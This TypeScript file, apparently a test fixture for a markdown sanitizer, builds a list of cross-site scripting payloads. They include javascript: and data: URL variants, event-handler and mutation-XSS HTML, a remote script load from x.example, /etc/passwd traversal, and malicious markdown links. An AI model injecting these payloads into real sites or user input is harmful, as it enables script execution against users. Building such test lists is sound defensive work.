const calls = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)']
const schemes = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)', 'javascript&colon;alert(1)', 'javascript%3Aalert(1)', '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'vbscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'file:///etc/passwd', 'blob:https://x.example/1',
  'about:blank', 'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)', 'jar:javascript:alert(1)!/', '//evil.example/x', '/\\evil.example',
  '\\\\evil.example', '?x=javascript:alert(1)', '#javascript:alert(1)',
  'ws://evil.example', 'ftp://evil.example/x', 'intent://x#Intent;end', 'tel:190', 'sms:190', 'x-javascript:alert(1)',
  'javascript://%0aalert(1)',
]
const elements = [
  '<script>CALL</script>', '<SCRIPT SRC=//x.example/x.js></SCRIPT>', '<scr<script>ipt>CALL</scr</script>ipt>',
  '<img src=x onerror=CALL>', '<img src="x" onerror="CALL"/>',
  '<svg onload=CALL>', '<svg><script>CALL</script></svg>', '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set onbegin=CALL>', '<math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<iframe src="javascript:CALL"></iframe>', '<iframe srcdoc="<script>CALL</script>"></iframe>',
  '<object data="javascript:CALL"></object>', '<embed src="javascript:CALL">',
  '<a href="javascript:CALL">x</a>', '<a onmouseover=CALL>x</a>', '<body onload=CALL>', '<details open ontoggle=CALL>',
  '<input autofocus onfocus=CALL>', '<select autofocus onfocus=CALL>',
  '<textarea autofocus onfocus=CALL>', '<video><source onerror=CALL></video>', '<audio src=x onerror=CALL>',
  '<marquee onstart=CALL>', '<form action="javascript:CALL"><button>x</button></form>',
  '<button formaction="javascript:CALL">x</button>', '<isindex type=image src=1 onerror=CALL>',
  '<link rel=stylesheet href="javascript:CALL">', '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href="javascript:CALL//">', '<style>@import "javascript:CALL"</style>',
  '<div style="background:url(javascript:CALL)">x</div>', '<template><script>CALL</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<table background="javascript:CALL"><tr><td>x</td></tr></table>', '<xss onpointerrawupdate=CALL>x</xss>',
  '<!--><img src=x onerror=CALL>-->',
  '<![CDATA[<script>CALL</script>]]>', '<?xml-stylesheet href="javascript:CALL"?>', '<sub onclick=CALL>2</sub>',
  '<sup><script>CALL</script></sup>', '<br onclick=CALL>', '</sub><script>CALL</script><sub>',
]
const markdown = (url: string) => [`[x](${url})`, `![x](${url})`, `<${url}>`, `[x][1]\n\n[1]: ${url}`]
const odd = [
  '[x](javascript:alert(1) "onmouseover=alert(1)")', '[x](https://a.example" onmouseover="alert(1))',
  '![x" onerror="alert(1)](image:x.svg)', '![x](image:x.svg" onerror="alert(1))', '![x](image:../../etc/passwd)',
  '![x](image:javascript:alert(1))', '![x](IMAGE:x.svg)', '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```js" onload="alert(1)\nx\n```', '`<script>alert(1)</script>`', '# <script>alert(1)</script>',
  '- [x] <input onfocus=alert(1)>', 'x[^1]\n\n[^1]: <script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](<javascript:alert(1)>)', '[![x](javascript:alert(1))](javascript:alert(1))', 'www.x.example/"onclick="alert(1)',
  'javascript:alert(1)', '[toString](constructor:alert(1))', '[__proto__]: javascript:alert(1)\n[__proto__]',
]

/** Ways that markdown has been made to run code elsewhere. */
export const payloads: readonly string[] = [
  ...schemes.flatMap(markdown),
  ...elements.flatMap((element) => calls.map((call) => element.replaceAll('CALL', call))),
  ...odd,
]
